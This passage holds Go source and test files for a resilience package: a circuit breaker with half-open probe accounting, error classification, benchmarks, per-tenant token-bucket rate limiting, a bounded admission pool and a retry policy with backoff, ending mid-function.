// breaker must admit exactly HalfOpenProbes concurrent calls after the
// cooldown, keep its in-flight accounting consistent however the probe
// outcomes interleave, and settle into open or closed — never a state
// where probes leak and the breaker wedges.

func TestBreakerHalfOpenConcurrentProbesAdmitExactlyN(t *testing.T) {
	for _, probes := range []int{1, 3} {
		clk := &fakeClock{t: time.Unix(1000, 0)}
		b := NewBreaker(BreakerConfig{
			FailureThreshold: 1,
			Cooldown:         time.Second,
			HalfOpenProbes:   probes,
			Now:              clk.now,
		})
		b.Record(Retryable(errDown)) // trip
		if b.State() != StateOpen {
			t.Fatalf("probes=%d: state after trip = %v, want open", probes, b.State())
		}
		clk.advance(2 * time.Second)

		const callers = 32
		var admitted atomic.Int64
		var start, finish sync.WaitGroup
		start.Add(1)
		releases := make(chan struct{}, callers)
		for i := 0; i < callers; i++ {
			finish.Add(1)
			go func() {
				defer finish.Done()
				start.Wait()
				if b.Allow() == nil {
					admitted.Add(1)
					releases <- struct{}{}
				}
			}()
		}
		start.Done()
		finish.Wait()
		if got := admitted.Load(); got != int64(probes) {
			t.Fatalf("probes=%d: %d concurrent Allows admitted, want exactly %d", probes, got, probes)
		}
		// Every admitted probe must be paired with a Record; settle them
		// all as successes and the breaker closes.
		close(releases)
		for range releases {
			b.Record(nil)
		}
		if got := b.State(); got != StateClosed {
			t.Fatalf("probes=%d: state after all probes succeed = %v, want closed", probes, got)
		}
	}
}

// TestBreakerHalfOpenMixedProbeOutcomes: with several probes in
// flight, one retryable failure re-opens the breaker; the remaining
// probes' late Records must not corrupt the reopened state or the
// probe count for the next half-open round.
func TestBreakerHalfOpenMixedProbeOutcomes(t *testing.T) {
	clk := &fakeClock{t: time.Unix(1000, 0)}
	b := NewBreaker(BreakerConfig{
		FailureThreshold: 1,
		Cooldown:         time.Second,
		HalfOpenProbes:   3,
		Now:              clk.now,
	})
	b.Record(Retryable(errDown))
	clk.advance(2 * time.Second)

	for i := 0; i < 3; i++ {
		if err := b.Allow(); err != nil {
			t.Fatalf("probe %d refused: %v", i, err)
		}
	}
	// First probe fails: breaker re-opens immediately.
	b.Record(Retryable(errDown))
	if got := b.State(); got != StateOpen {
		t.Fatalf("state after failed probe = %v, want open", got)
	}
	// The two stragglers report success late; the breaker already
	// decided and must stay open.
	b.Record(nil)
	b.Record(nil)
	if got := b.State(); got != StateOpen {
		t.Fatalf("state after late straggler Records = %v, want open (late records must not flip a decided breaker)", got)
	}
	// Next cooldown: a fresh half-open round still admits exactly 3 —
	// the stragglers did not eat into the new round's probe budget.
	clk.advance(2 * time.Second)
	admitted := 0
	for i := 0; i < 6; i++ {
		if b.Allow() == nil {
			admitted++
		}
	}
	if admitted != 3 {
		t.Fatalf("second half-open round admitted %d probes, want 3", admitted)
	}
}

// TestBreakerHalfOpenConcurrentChurn drives open→half-open→record
// cycles from many goroutines with the race detector watching the
// accounting, and asserts the Allow/Record pairing invariant holds: the
// breaker ends in a terminal state with no stuck probe slots.
func TestBreakerHalfOpenConcurrentChurn(t *testing.T) {
	clk := &fakeClock{t: time.Unix(1000, 0)}
	b := NewBreaker(BreakerConfig{
		FailureThreshold: 2,
		Cooldown:         time.Millisecond,
		HalfOpenProbes:   2,
		Now:              clk.now,
	})
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		g := g
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				if err := b.Allow(); err != nil {
					continue
				}
				if (g+i)%3 == 0 {
					b.Record(Retryable(errDown))
				} else {
					b.Record(nil)
				}
			}
		}()
	}
	done := make(chan struct{})
	go func() {
		wg.Wait()
		close(done)
	}()
	for {
		select {
		case <-done:
			// Churn over. If the breaker wedged half-open with leaked
			// probe slots, a full cooldown + probe round would refuse
			// everything; prove it still serves.
			clk.advance(time.Hour)
			if err := b.Allow(); err != nil {
				t.Fatalf("breaker wedged after concurrent churn: %v (state %v)", err, b.State())
			}
			b.Record(nil)
			if got := b.State(); got != StateClosed {
				t.Fatalf("state after successful post-churn probe = %v, want closed", got)
			}
			return
		default:
			clk.advance(time.Millisecond)
		}
	}
}
