package resilience

import (
	"context"
	"errors"
	"sync"
	"testing"
	"time"

	"github.com/hvscan/hvscan/internal/obs"
)

// fakeClock is a manually advanced clock for breaker cooldown tests.
type fakeClock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *fakeClock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *fakeClock) advance(d time.Duration) {
	c.mu.Lock()
	c.t = c.t.Add(d)
	c.mu.Unlock()
}

var errDown = errors.New("backend down")

func TestBreakerOpensAfterConsecutiveFailures(t *testing.T) {
	clk := &fakeClock{t: time.Unix(1000, 0)}
	b := NewBreaker(BreakerConfig{FailureThreshold: 3, Cooldown: time.Minute, Now: clk.now})
	for i := 0; i < 2; i++ {
		if err := b.Do(func() error { return errDown }); !errors.Is(err, errDown) {
			t.Fatalf("call %d: %v", i, err)
		}
	}
	if b.State() != StateClosed {
		t.Fatal("breaker opened below threshold")
	}
	_ = b.Do(func() error { return errDown })
	if b.State() != StateOpen {
		t.Fatal("breaker did not open at threshold")
	}
	if err := b.Do(func() error { t.Fatal("call ran while open"); return nil }); !errors.Is(err, ErrBreakerOpen) {
		t.Fatalf("open breaker returned %v, want ErrBreakerOpen", err)
	}
}

func TestBreakerSuccessResetsFailureRun(t *testing.T) {
	b := NewBreaker(BreakerConfig{FailureThreshold: 3})
	for i := 0; i < 10; i++ {
		_ = b.Do(func() error { return errDown })
		_ = b.Do(func() error { return errDown })
		_ = b.Do(func() error { return nil }) // breaks the run
	}
	if b.State() != StateOpen {
		// 2 failures + success, repeated: never 3 consecutive.
		return
	}
	t.Fatal("interleaved successes should keep the breaker closed")
}

func TestBreakerPermanentErrorsAreNotFailures(t *testing.T) {
	b := NewBreaker(BreakerConfig{FailureThreshold: 2})
	for i := 0; i < 10; i++ {
		_ = b.Do(func() error { return Permanent(errDown) })
	}
	if b.State() != StateClosed {
		t.Fatal("permanent (404-style) errors tripped the breaker")
	}
}

func TestBreakerHalfOpenRecovery(t *testing.T) {
	clk := &fakeClock{t: time.Unix(1000, 0)}
	b := NewBreaker(BreakerConfig{FailureThreshold: 1, Cooldown: time.Minute, Now: clk.now})
	_ = b.Do(func() error { return errDown })
	if b.State() != StateOpen {
		t.Fatal("setup: breaker should be open")
	}
	clk.advance(61 * time.Second)
	// First call after the cooldown is the probe; success closes.
	if err := b.Do(func() error { return nil }); err != nil {
		t.Fatalf("probe: %v", err)
	}
	if b.State() != StateClosed {
		t.Fatalf("state after successful probe = %v, want closed", b.State())
	}
}

func TestBreakerHalfOpenFailureReopens(t *testing.T) {
	clk := &fakeClock{t: time.Unix(1000, 0)}
	b := NewBreaker(BreakerConfig{FailureThreshold: 1, Cooldown: time.Minute, Now: clk.now})
	_ = b.Do(func() error { return errDown })
	clk.advance(61 * time.Second)
	_ = b.Do(func() error { return errDown }) // failed probe
	if b.State() != StateOpen {
		t.Fatal("failed probe must reopen the breaker")
	}
	// And the fresh cooldown starts from the reopen, not the first trip.
	if err := b.Allow(); !errors.Is(err, ErrBreakerOpen) {
		t.Fatal("reopened breaker admitted a call inside the new cooldown")
	}
}

func TestBreakerHalfOpenLimitsProbes(t *testing.T) {
	clk := &fakeClock{t: time.Unix(1000, 0)}
	b := NewBreaker(BreakerConfig{FailureThreshold: 1, Cooldown: time.Second, HalfOpenProbes: 1, Now: clk.now})
	_ = b.Do(func() error { return errDown })
	clk.advance(2 * time.Second)
	if err := b.Allow(); err != nil {
		t.Fatalf("first probe refused: %v", err)
	}
	if err := b.Allow(); !errors.Is(err, ErrBreakerOpen) {
		t.Fatal("second concurrent probe admitted in half-open")
	}
	b.Record(nil) // probe succeeds
	if b.State() != StateClosed {
		t.Fatal("probe success did not close")
	}
}

func TestBreakerConcurrentUseUnderRace(t *testing.T) {
	clk := &fakeClock{t: time.Unix(1000, 0)}
	b := NewBreaker(BreakerConfig{FailureThreshold: 5, Cooldown: time.Millisecond, Now: clk.now})
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		w := w
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				_ = b.Do(func() error {
					if (i+w)%3 == 0 {
						return errDown
					}
					return nil
				})
				if i%50 == 0 {
					clk.advance(time.Millisecond)
				}
			}
		}()
	}
	wg.Wait()
	// No assertion beyond "no race, no deadlock, state is valid".
	if s := b.State(); s != StateClosed && s != StateOpen && s != StateHalfOpen {
		t.Fatalf("invalid state %v", s)
	}
}

func TestMetricsHooks(t *testing.T) {
	reg := obs.NewRegistry()
	m := NewMetrics(reg)

	clk := &fakeClock{t: time.Unix(1000, 0)}
	b := NewBreaker(BreakerConfig{FailureThreshold: 2, Cooldown: time.Minute, Now: clk.now, OnStateChange: m.BreakerHook()})
	_ = b.Do(func() error { return errDown })
	_ = b.Do(func() error { return errDown })
	if got := m.BreakerTrips.Value(); got != 1 {
		t.Fatalf("trips = %d, want 1", got)
	}
	if got := m.BreakerState.Value(); got != int64(StateOpen) {
		t.Fatalf("state gauge = %d, want %d", got, StateOpen)
	}

	p := Policy{MaxAttempts: 3, OnRetry: m.PolicyHook()}
	_ = p.Do(context.Background(), func() error { return errDown })
	if got := m.Retries.Value(); got != 2 {
		t.Fatalf("retries = %d, want 2", got)
	}

	m.ObserveError(ClassPermanent)
	if got := m.Errors[ClassPermanent].Value(); got != 1 {
		t.Fatalf("permanent errors = %d, want 1", got)
	}
}
