package resilience

import (
	"context"
	"errors"
	"fmt"
	"testing"
)

// statusErr is a minimal StatusCoder for classifier tests.
type statusErr struct{ code int }

func (e *statusErr) Error() string   { return fmt.Sprintf("http status %d", e.code) }
func (e *statusErr) HTTPStatus() int { return e.code }

func TestClassify(t *testing.T) {
	base := errors.New("boom")
	cases := []struct {
		name string
		err  error
		want Class
	}{
		{"nil", nil, ClassRetryable},
		{"unknown", base, ClassRetryable},
		{"marked-retryable", Retryable(base), ClassRetryable},
		{"marked-permanent", Permanent(base), ClassPermanent},
		{"marked-fatal", Fatal(base), ClassFatal},
		{"wrapped-mark", fmt.Errorf("outer: %w", Permanent(base)), ClassPermanent},
		{"deep-wrapped-fatal", fmt.Errorf("a: %w", fmt.Errorf("b: %w", Fatal(base))), ClassFatal},
		{"status-500", &statusErr{500}, ClassRetryable},
		{"status-503-wrapped", fmt.Errorf("query: %w", &statusErr{503}), ClassRetryable},
		{"status-429", &statusErr{429}, ClassRetryable},
		{"status-408", &statusErr{408}, ClassRetryable},
		{"status-404", &statusErr{404}, ClassPermanent},
		{"status-403", &statusErr{403}, ClassPermanent},
		{"status-200", &statusErr{200}, ClassRetryable},
		{"canceled", context.Canceled, ClassPermanent},
		{"canceled-wrapped", fmt.Errorf("fetch: %w", context.Canceled), ClassPermanent},
		{"deadline", context.DeadlineExceeded, ClassRetryable},
	}
	for _, c := range cases {
		if got := Classify(c.err); got != c.want {
			t.Errorf("%s: Classify = %v, want %v", c.name, got, c.want)
		}
	}
}

func TestMarksPreserveUnwrapAndNil(t *testing.T) {
	base := errors.New("boom")
	if !errors.Is(Permanent(base), base) {
		t.Error("Permanent broke the errors.Is chain")
	}
	if Retryable(nil) != nil || Permanent(nil) != nil || Fatal(nil) != nil {
		t.Error("marking nil must stay nil")
	}
	if msg := Fatal(base).Error(); msg != "boom" {
		t.Errorf("mark changed the message: %q", msg)
	}
}

func TestInnermostMarkVisibleFirstWins(t *testing.T) {
	// Double-marked: the outermost mark is what errors.As finds first,
	// matching "the closest decision wins" semantics.
	err := Permanent(Retryable(errors.New("boom")))
	if got := Classify(err); got != ClassPermanent {
		t.Errorf("outer mark should win, got %v", got)
	}
}

func TestClassString(t *testing.T) {
	want := map[Class]string{ClassRetryable: "retryable", ClassPermanent: "permanent", ClassFatal: "fatal", Class(42): "unknown"}
	for c, s := range want {
		if c.String() != s {
			t.Errorf("Class(%d).String() = %q, want %q", int(c), c.String(), s)
		}
	}
}
