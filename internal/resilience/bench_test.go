package resilience

import (
	"context"
	"errors"
	"testing"
)

// The resilience primitives sit on the pipeline's per-page hot path, so
// their happy-path overhead must be noise: a handful of nanoseconds for
// Policy.Do (one ctx.Err check + one call), one mutex round trip for
// the breaker, and a few errors.As probes for Classify.

func BenchmarkPolicyDoHappyPath(b *testing.B) {
	p := Policy{MaxAttempts: 3, BaseDelay: 50}
	ctx := context.Background()
	f := func() error { return nil }
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := p.Do(ctx, f); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkBreakerHappyPath(b *testing.B) {
	br := NewBreaker(BreakerConfig{})
	f := func() error { return nil }
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := br.Do(f); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkPolicyAndBreakerComposed(b *testing.B) {
	// The exact shape the crawler uses per archive call.
	p := Policy{MaxAttempts: 3, BaseDelay: 50}
	br := NewBreaker(BreakerConfig{})
	ctx := context.Background()
	f := func() error { return nil }
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		err := p.Do(ctx, func() error { return br.Do(f) })
		if err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkClassifyUnknown(b *testing.B) {
	err := errors.New("some transient network thing")
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if Classify(err) != ClassRetryable {
			b.Fatal("misclassified")
		}
	}
}

func BenchmarkClassifyMarked(b *testing.B) {
	err := Permanent(errors.New("gone"))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if Classify(err) != ClassPermanent {
			b.Fatal("misclassified")
		}
	}
}
