package resilience

import (
	"errors"
	"sync"
	"time"
)

// BreakerState is the circuit breaker's position.
type BreakerState int

const (
	// StateClosed: requests flow normally; consecutive retryable
	// failures are counted.
	StateClosed BreakerState = iota
	// StateHalfOpen: the cooldown elapsed; a limited number of probe
	// requests test whether the backend recovered.
	StateHalfOpen
	// StateOpen: the backend is considered down; requests are shed
	// without being attempted until the cooldown elapses.
	StateOpen
)

// String returns the state label used in logs and metrics docs.
func (s BreakerState) String() string {
	switch s {
	case StateClosed:
		return "closed"
	case StateHalfOpen:
		return "half-open"
	case StateOpen:
		return "open"
	}
	return "unknown"
}

// ErrBreakerOpen is returned by Allow (and Do) while the breaker sheds
// load. It classifies as retryable: the caller's backoff naturally
// spaces out re-probes of a recovering backend.
var ErrBreakerOpen = errors.New("resilience: circuit breaker open")

// BreakerConfig tunes a Breaker. The zero value gives sane defaults.
type BreakerConfig struct {
	// FailureThreshold is how many consecutive retryable failures open
	// the breaker (default 8). Permanent failures (a 404 is a healthy
	// backend saying no) and successes reset the count.
	FailureThreshold int
	// Cooldown is how long the breaker stays open before allowing
	// half-open probes (default 15s).
	Cooldown time.Duration
	// HalfOpenProbes is how many concurrent probe calls the half-open
	// state admits (default 1).
	HalfOpenProbes int
	// Now overrides the clock (tests); nil means time.Now.
	Now func() time.Time
	// OnStateChange, if set, observes every transition. Called outside
	// the breaker's lock is NOT guaranteed — keep it non-blocking
	// (metric updates, not I/O).
	OnStateChange func(from, to BreakerState)
}

// Breaker is a circuit breaker: after a run of consecutive retryable
// failures it opens and sheds calls for a cooldown, then lets a probe
// through (half-open) and closes again on success. One Breaker guards
// one backend; all methods are safe for concurrent use.
type Breaker struct {
	cfg BreakerConfig

	mu       sync.Mutex
	state    BreakerState
	failures int       // consecutive retryable failures while closed
	openedAt time.Time // when the breaker last opened
	probes   int       // in-flight probes while half-open
}

// NewBreaker builds a breaker from cfg, applying defaults for zero
// fields.
func NewBreaker(cfg BreakerConfig) *Breaker {
	if cfg.FailureThreshold <= 0 {
		cfg.FailureThreshold = 8
	}
	if cfg.Cooldown <= 0 {
		cfg.Cooldown = 15 * time.Second
	}
	if cfg.HalfOpenProbes <= 0 {
		cfg.HalfOpenProbes = 1
	}
	if cfg.Now == nil {
		cfg.Now = time.Now
	}
	return &Breaker{cfg: cfg}
}

// State returns the breaker's current position (open flips to half-open
// lazily, on the first Allow after the cooldown).
func (b *Breaker) State() BreakerState {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.state
}

// transition moves the breaker to the target state and fires the hook.
func (b *Breaker) transition(to BreakerState) {
	if b.state == to {
		return
	}
	from := b.state
	b.state = to
	if b.cfg.OnStateChange != nil {
		b.cfg.OnStateChange(from, to)
	}
}

// Allow asks whether a call may proceed; it returns ErrBreakerOpen when
// the call should be shed. Every Allow that returns nil MUST be paired
// with exactly one Record — the half-open state counts in-flight
// probes.
func (b *Breaker) Allow() error {
	b.mu.Lock()
	defer b.mu.Unlock()
	switch b.state {
	case StateOpen:
		if b.cfg.Now().Sub(b.openedAt) < b.cfg.Cooldown {
			return ErrBreakerOpen
		}
		b.transition(StateHalfOpen)
		b.probes = 0
		fallthrough
	case StateHalfOpen:
		if b.probes >= b.cfg.HalfOpenProbes {
			return ErrBreakerOpen
		}
		b.probes++
	}
	return nil
}

// Record reports the outcome of an allowed call. Only retryable
// failures count against the backend's health: a permanent error is the
// backend answering (unfavourably), and a fatal error is our own
// configuration, not the backend's state.
func (b *Breaker) Record(err error) {
	failure := err != nil && Classify(err) == ClassRetryable
	b.mu.Lock()
	defer b.mu.Unlock()
	switch b.state {
	case StateClosed:
		if !failure {
			b.failures = 0
			return
		}
		b.failures++
		if b.failures >= b.cfg.FailureThreshold {
			b.open()
		}
	case StateHalfOpen:
		if b.probes > 0 {
			b.probes--
		}
		if failure {
			b.open()
			return
		}
		b.transition(StateClosed)
		b.failures = 0
	case StateOpen:
		// A late Record from a call allowed before the trip: the
		// breaker already decided, nothing to update.
	}
}

// open trips the breaker; the caller holds the lock.
func (b *Breaker) open() {
	b.transition(StateOpen)
	b.openedAt = b.cfg.Now()
	b.failures = 0
	b.probes = 0
}

// Do guards one call: shed if the breaker is open, otherwise run f and
// record its outcome. The shed error is ErrBreakerOpen.
func (b *Breaker) Do(f func() error) error {
	if err := b.Allow(); err != nil {
		return err
	}
	err := f()
	b.Record(err)
	return err
}
