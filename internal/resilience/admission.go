package resilience

import (
	"context"
	"errors"
	"math"
	"runtime"
	"sync"
	"time"
)

// Admission control: the primitives a high-QPS service (cmd/hvserve)
// and the crawler's future distributed workers use to decide, *before*
// doing any work, whether a request may proceed. Two layers compose:
//
//   - TokenBucket / Buckets: per-tenant rate limiting. A tenant that
//     exceeds its refill rate is throttled (HTTP 429) without touching
//     the worker pool, so one noisy client cannot starve the rest.
//   - AdmissionPool: a global bounded worker pool with a bounded wait
//     queue and an explicit shed policy. When every worker is busy and
//     the queue is full, callers are rejected immediately
//     (ErrOverloaded → HTTP 503) instead of queueing without bound —
//     overload degrades into fast, cheap rejections, never into queue
//     collapse.
//
// Both shed errors classify as retryable: backing off and retrying is
// exactly the right client response to 429/503.

// ErrThrottled is returned by Buckets-mediated admission when a
// tenant's token bucket is empty. Pair it with TokenBucket.RetryAfter
// for the Retry-After hint.
var ErrThrottled = errors.New("resilience: tenant rate limit exceeded")

// ErrOverloaded is returned by AdmissionPool when every worker is busy
// and the wait queue is full (or the queue wait timed out): the
// service is saturated and the caller should retry after backoff.
var ErrOverloaded = errors.New("resilience: admission pool overloaded")

// TokenBucket is a classic token-bucket rate limiter: capacity `burst`
// tokens, refilled continuously at `rate` tokens per second. All
// methods are safe for concurrent use.
type TokenBucket struct {
	mu     sync.Mutex
	rate   float64 // tokens per second
	burst  float64 // bucket capacity
	tokens float64 // current fill, <= burst
	last   time.Time
	now    func() time.Time
}

// NewTokenBucket returns a full bucket refilling at rate tokens/second
// with the given burst capacity. Non-positive arguments are clamped to
// minimal sane values (rate 1/s, burst 1).
func NewTokenBucket(rate, burst float64) *TokenBucket {
	if rate <= 0 {
		rate = 1
	}
	if burst < 1 {
		burst = 1
	}
	b := &TokenBucket{rate: rate, burst: burst, tokens: burst, now: time.Now}
	b.last = b.now()
	return b
}

// WithClock overrides the bucket's clock (tests) and returns the
// bucket for chaining. Not safe to call after concurrent use started.
func (b *TokenBucket) WithClock(now func() time.Time) *TokenBucket {
	b.now = now
	b.last = now()
	return b
}

// refill credits the elapsed time since the last touch. Caller holds
// b.mu.
func (b *TokenBucket) refill() {
	t := b.now()
	if dt := t.Sub(b.last).Seconds(); dt > 0 {
		b.tokens = math.Min(b.burst, b.tokens+dt*b.rate)
	}
	b.last = t
}

// Allow consumes one token if available and reports whether it did.
func (b *TokenBucket) Allow() bool { return b.AllowN(1) }

// AllowN consumes n tokens if all are available and reports whether it
// did; a partial balance is never consumed.
func (b *TokenBucket) AllowN(n float64) bool {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.refill()
	if b.tokens < n {
		return false
	}
	b.tokens -= n
	return true
}

// Tokens returns the current fill after crediting elapsed time.
func (b *TokenBucket) Tokens() float64 {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.refill()
	return b.tokens
}

// RetryAfter returns how long until one token will be available — the
// Retry-After hint to send with a throttled response. Zero means a
// token is available now.
func (b *TokenBucket) RetryAfter() time.Duration {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.refill()
	if b.tokens >= 1 {
		return 0
	}
	return time.Duration((1 - b.tokens) / b.rate * float64(time.Second))
}

// Buckets is a per-tenant TokenBucket set with a hard cap on tracked
// tenants, so an adversary fabricating tenant IDs cannot grow the map
// without bound. At the cap, fully refilled (idle) buckets are evicted
// first; if every bucket is active, the one closest to full is
// recycled — the tenant that loses its partial debit is by definition
// the least throttled one, so fairness degrades gracefully.
type Buckets struct {
	rate  float64
	burst float64
	max   int
	now   func() time.Time

	mu sync.Mutex
	m  map[string]*TokenBucket
}

// DefaultMaxTenants bounds a Buckets map when no cap is given.
const DefaultMaxTenants = 16384

// NewBuckets returns an empty per-tenant limiter set; every tenant
// gets rate tokens/second with the given burst. maxTenants <= 0 means
// DefaultMaxTenants.
func NewBuckets(rate, burst float64, maxTenants int) *Buckets {
	if maxTenants <= 0 {
		maxTenants = DefaultMaxTenants
	}
	return &Buckets{
		rate:  rate,
		burst: burst,
		max:   maxTenants,
		now:   time.Now,
		m:     make(map[string]*TokenBucket),
	}
}

// WithClock overrides the clock used for buckets created from now on
// (tests) and returns the set for chaining.
func (s *Buckets) WithClock(now func() time.Time) *Buckets {
	s.now = now
	return s
}

// Get returns the tenant's bucket, creating it (and evicting if at the
// cap) as needed.
func (s *Buckets) Get(tenant string) *TokenBucket {
	s.mu.Lock()
	defer s.mu.Unlock()
	if b, ok := s.m[tenant]; ok {
		return b
	}
	if len(s.m) >= s.max {
		s.evictLocked()
	}
	b := NewTokenBucket(s.rate, s.burst).WithClock(s.now)
	s.m[tenant] = b
	return b
}

// Allow is the common path: fetch-or-create the tenant's bucket and
// try to take one token. On refusal it returns ErrThrottled and the
// Retry-After hint.
func (s *Buckets) Allow(tenant string) (time.Duration, error) {
	b := s.Get(tenant)
	if b.Allow() {
		return 0, nil
	}
	return b.RetryAfter(), ErrThrottled
}

// Len returns the number of tracked tenants.
func (s *Buckets) Len() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.m)
}

// evictLocked makes room for one more tenant: drop every fully
// refilled (idle) bucket, or failing that the single fullest one.
// Caller holds s.mu.
func (s *Buckets) evictLocked() {
	var fullestKey string
	fullest := -1.0
	dropped := false
	for k, b := range s.m {
		t := b.Tokens()
		if t >= b.burst {
			delete(s.m, k)
			dropped = true
			continue
		}
		if t > fullest {
			fullest, fullestKey = t, k
		}
	}
	if !dropped && fullestKey != "" {
		delete(s.m, fullestKey)
	}
}

// AdmissionConfig tunes an AdmissionPool. The zero value gives sane
// defaults.
type AdmissionConfig struct {
	// Workers is the number of requests admitted concurrently
	// (default GOMAXPROCS).
	Workers int
	// Queue is how many callers may wait for a worker slot beyond the
	// concurrent ones (default 2×Workers). Use NoQueue for zero.
	Queue int
	// QueueWait bounds how long a queued caller waits before being
	// shed (default 250ms). A bounded wait keeps queueing from adding
	// unbounded latency: beyond it, telling the client to retry is
	// cheaper than holding its connection.
	QueueWait time.Duration
}

// NoQueue configures an AdmissionPool with no wait queue: a request
// either gets a worker immediately or is shed. (The zero Queue value
// means "default", so an explicit sentinel is needed for zero.)
const NoQueue = -1

// AdmissionPool is a bounded worker pool with a bounded wait queue and
// immediate load shedding beyond both. All methods are safe for
// concurrent use.
type AdmissionPool struct {
	workers   chan struct{}
	queue     chan struct{}
	queueWait time.Duration
}

// NewAdmissionPool builds a pool from cfg, applying defaults for zero
// fields.
func NewAdmissionPool(cfg AdmissionConfig) *AdmissionPool {
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}
	switch {
	case cfg.Queue == NoQueue:
		cfg.Queue = 0
	case cfg.Queue <= 0:
		cfg.Queue = 2 * cfg.Workers
	}
	if cfg.QueueWait <= 0 {
		cfg.QueueWait = 250 * time.Millisecond
	}
	return &AdmissionPool{
		workers:   make(chan struct{}, cfg.Workers),
		queue:     make(chan struct{}, cfg.Queue),
		queueWait: cfg.QueueWait,
	}
}

// Acquire admits the caller or sheds it. On success it returns a
// release func the caller MUST invoke exactly once (defer it — it must
// run even if the admitted work panics). On shed it returns
// ErrOverloaded; if ctx ends while queued it returns ctx.Err().
//
// The policy, in order: a free worker slot admits immediately; else a
// free queue slot waits up to QueueWait for a worker; else shed now.
// The queue is strictly bounded, so the worst-case latency a caller
// can observe from admission is QueueWait — overload never builds an
// invisible backlog.
func (p *AdmissionPool) Acquire(ctx context.Context) (release func(), err error) {
	select {
	case p.workers <- struct{}{}:
		return p.releaseFunc(), nil
	default:
	}
	select {
	case p.queue <- struct{}{}:
		defer func() { <-p.queue }()
	default:
		return nil, ErrOverloaded
	}
	t := time.NewTimer(p.queueWait)
	defer t.Stop()
	select {
	case p.workers <- struct{}{}:
		return p.releaseFunc(), nil
	case <-t.C:
		return nil, ErrOverloaded
	case <-ctx.Done():
		return nil, ctx.Err()
	}
}

// TryAcquire admits the caller only if a worker slot is free right
// now; it never queues. Same release contract as Acquire.
func (p *AdmissionPool) TryAcquire() (release func(), err error) {
	select {
	case p.workers <- struct{}{}:
		return p.releaseFunc(), nil
	default:
		return nil, ErrOverloaded
	}
}

// releaseFunc returns the one-shot worker-slot release. The sync.Once
// makes a double release harmless (the slot is freed once), so a
// defensive caller cannot corrupt the pool's accounting.
func (p *AdmissionPool) releaseFunc() func() {
	var once sync.Once
	return func() { once.Do(func() { <-p.workers }) }
}

// InFlight returns the number of admitted, unreleased callers.
func (p *AdmissionPool) InFlight() int { return len(p.workers) }

// Queued returns the number of callers currently waiting for a slot.
func (p *AdmissionPool) Queued() int { return len(p.queue) }

// Capacity returns the worker and queue bounds.
func (p *AdmissionPool) Capacity() (workers, queue int) {
	return cap(p.workers), cap(p.queue)
}

// RetryAfter is the hint to send with an ErrOverloaded shed: once the
// bounded queue has timed a caller out, the backlog is at least a
// QueueWait deep, so asking the client to come back after one wait
// quantum is honest.
func (p *AdmissionPool) RetryAfter() time.Duration { return p.queueWait }
