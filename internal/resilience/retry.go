package resilience

import (
	"context"
	"errors"
	"time"
)

// Policy is a retry schedule: how many attempts, and how the delay
// between them grows. The zero value means "one attempt, no sleeping" —
// every field has a safe zero so a Policy literal only states what it
// changes.
type Policy struct {
	// MaxAttempts is the total number of tries (first call included).
	// Values below 1 mean 1: a single attempt, no retrying.
	MaxAttempts int
	// BaseDelay is the sleep before the first retry; 0 disables
	// sleeping entirely (tests, in-process archives).
	BaseDelay time.Duration
	// MaxDelay caps the grown delay. 0 means 20×BaseDelay — enough for
	// the default multiplier to run four doublings before clipping.
	MaxDelay time.Duration
	// Multiplier grows the delay between attempts; values ≤ 1 mean the
	// default of 2 (exponential doubling).
	Multiplier float64
	// Jitter spreads each delay uniformly over ±Jitter×delay, breaking
	// retry synchronization between workers hammering the same backend.
	// 0 means no jitter; values are clamped to [0, 1].
	Jitter float64
	// Rand supplies jitter randomness in [0,1); nil uses a cheap
	// time-seeded source. Tests inject a deterministic function.
	Rand func() float64
	// OnRetry, if set, observes every re-attempt before its backoff
	// sleep: the attempt number just failed (1-based), the sleep about
	// to happen, and the error. Used for metrics wiring.
	OnRetry func(attempt int, sleep time.Duration, err error)
}

// Delay returns the backoff before retry number n (0-based: Delay(0) is
// the sleep between the first failure and the second attempt), jittered
// and capped.
func (p Policy) Delay(n int) time.Duration {
	if p.BaseDelay <= 0 {
		return 0
	}
	mult := p.Multiplier
	if mult <= 1 {
		mult = 2
	}
	max := p.MaxDelay
	if max <= 0 {
		max = 20 * p.BaseDelay
	}
	d := float64(p.BaseDelay)
	for i := 0; i < n; i++ {
		d *= mult
		if d >= float64(max) {
			break
		}
	}
	if d > float64(max) {
		d = float64(max)
	}
	if j := p.Jitter; j > 0 {
		if j > 1 {
			j = 1
		}
		r := 0.5
		if p.Rand != nil {
			r = p.Rand()
		} else {
			// Cheap decorrelation without math/rand: the low bits of
			// the clock differ between concurrent workers.
			r = float64(time.Now().UnixNano()%1024) / 1024
		}
		d *= 1 - j + 2*j*r
	}
	return time.Duration(d)
}

// Do runs f under the policy: retry on ClassRetryable errors with
// backoff until attempts or the context run out. ClassPermanent and
// ClassFatal errors return immediately. The returned error is the last
// attempt's error; if the context ends during a backoff sleep the
// context error is joined in, so callers can match either cause with
// errors.Is.
func (p Policy) Do(ctx context.Context, f func() error) error {
	attempts := p.MaxAttempts
	if attempts < 1 {
		attempts = 1
	}
	var err error
	for attempt := 1; ; attempt++ {
		if cerr := ctx.Err(); cerr != nil {
			if err != nil {
				return errors.Join(err, cerr)
			}
			return cerr
		}
		err = f()
		if err == nil {
			return nil
		}
		if attempt >= attempts || Classify(err) != ClassRetryable {
			return err
		}
